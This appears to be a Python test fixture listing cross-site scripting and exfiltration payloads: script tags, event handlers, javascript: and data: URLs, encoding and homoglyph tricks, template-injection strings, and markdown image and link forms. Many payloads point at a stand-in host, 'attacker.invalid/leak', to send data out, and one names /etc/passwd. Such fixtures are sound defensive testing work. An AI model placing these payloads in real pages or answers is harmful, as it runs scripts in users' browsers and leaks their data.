"""Texts that try to run a script or to call another host, as answers and files may hold them."""

from collections.abc import Iterator

# A host that nobody has; a request to it would be noticed.
ELSEWHERE = "https://attacker.invalid/leak"
RUN = "alert(1)"

_HTML = (
    f"<script>{RUN}</script>",
    f"<ScRiPt>{RUN}</sCrIpT>",
    f"<script src='{ELSEWHERE}.js'></script>",
    f"<img src=x onerror={RUN}>",
    f"<img src='{ELSEWHERE}?q=secret'>",
    f"<img srcset='{ELSEWHERE} 1x'>",
    f"<svg onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x></svg>",
    f"<iframe src='javascript:{RUN}'></iframe>",
    f"<iframe src='{ELSEWHERE}'></iframe>",
    f"<iframe srcdoc='<script>{RUN}</script>'></iframe>",
    f"<object data='{ELSEWHERE}'></object>",
    f"<embed src='{ELSEWHERE}'>",
    f"<link rel=stylesheet href='{ELSEWHERE}.css'>",
    f"<link rel=prefetch href='{ELSEWHERE}'>",
    f"<style>@import '{ELSEWHERE}.css';</style>",
    f"<style>body{{background:url({ELSEWHERE})}}</style>",
    f"<div style='background:url({ELSEWHERE})'>x</div>",
    f"<meta http-equiv=refresh content='0;url={ELSEWHERE}'>",
    f"<base href='{ELSEWHERE}'>",
    f"<form action='{ELSEWHERE}'><input autofocus onfocus={RUN}></form>",
    f"<video src='{ELSEWHERE}' poster='{ELSEWHERE}'></video>",
    f"<audio src='{ELSEWHERE}' autoplay></audio>",
    f"<body onload={RUN}>",
    f"<details open ontoggle={RUN}>x</details>",
    f"<marquee onstart={RUN}>x</marquee>",
    f"<a href='javascript:{RUN}'>x</a>",
    f"<math><mtext><img src=x onerror={RUN}></mtext></math>",
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>",
    f"<template><script>{RUN}</script></template>",
    f"--><script>{RUN}</script>",
    f"]]><script>{RUN}</script>",
    f"'\"><script>{RUN}</script>",
    f"\u2028<script>{RUN}</script>",
    f"<source-panel onclick={RUN}>x</source-panel>",
)
_ADDRESSES = (
    f"javascript:{RUN}",
    f"JaVaScRiPt:{RUN}",
    f"java\tscript:{RUN}",
    f"\x01javascript:{RUN}",
    f"javascript&colon;{RUN}",
    f"javascript&#58;{RUN}",
    f"jаvascript:{RUN}",  # the first vowel is Cyrillic
    f"vbscript:{RUN}",
    f"data:text/html,<script>{RUN}</script>",
    "data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+",
    f"blob:{ELSEWHERE}",
    "file:///etc/passwd",
    "//attacker.invalid/leak",
    "\\\\attacker.invalid\\leak",
    ELSEWHERE,
    f"https://x@attacker.invalid/?{RUN}",
    f'https://attacker.invalid/"onmouseover="{RUN}',
    f"filesystem:{ELSEWHERE}",
    f"view-source:{ELSEWHERE}",
    f"intent:{RUN}",
)
_AS_MARKDOWN = (
    "[click]({0})",
    "![image]({0})",
    "[![image]({0})]({0})",
    "<{0}>",
    "[ref]: {0}\n\n![x][ref] [y][ref]",
    "[1]({0})",
    '[title]({0} "x")',
    "| a | b |\n|---|---|\n| ![x]({0}) | [y]({0}) |",
)
_OTHERS = (
    "{{constructor.constructor('alert(1)')()}}",
    "${alert(1)}",
    "[1][2][999](javascript:alert(1))",
    "`<img src=x onerror=alert(1)>`",
    "```html\n<img src=x onerror=alert(1)>\n```",
    ":::note <img src=x onerror=alert(1)>\n<script>alert(1)</script>\n:::",
    "# <img src=x onerror=alert(1)>",
    "__proto__",
    "*" * 400,
    "[" * 400,
    "> " * 400 + "x",
    "- " * 400 + "x",
    "\u202e<script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "%3Cscript%3Ealert(1)%3C/script%3E",
)


def payloads() -> list[str]:
    """Every payload, each once."""
    return list(dict.fromkeys(_payloads()))


def _payloads() -> Iterator[str]:
    yield from _HTML
    yield from _ADDRESSES
    yield from _OTHERS
    for form in _AS_MARKDOWN:
        yield from (form.format(address) for address in _ADDRESSES)
